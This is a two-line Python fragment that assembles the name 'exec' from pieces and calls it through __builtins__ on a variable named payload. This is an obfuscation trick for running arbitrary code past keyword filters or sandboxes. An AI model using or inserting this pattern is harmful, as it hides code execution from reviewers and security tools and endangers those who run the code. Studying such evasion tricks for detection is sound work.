n = '%s%s' % ('ex', 'ec')
__builtins__[n](payload)
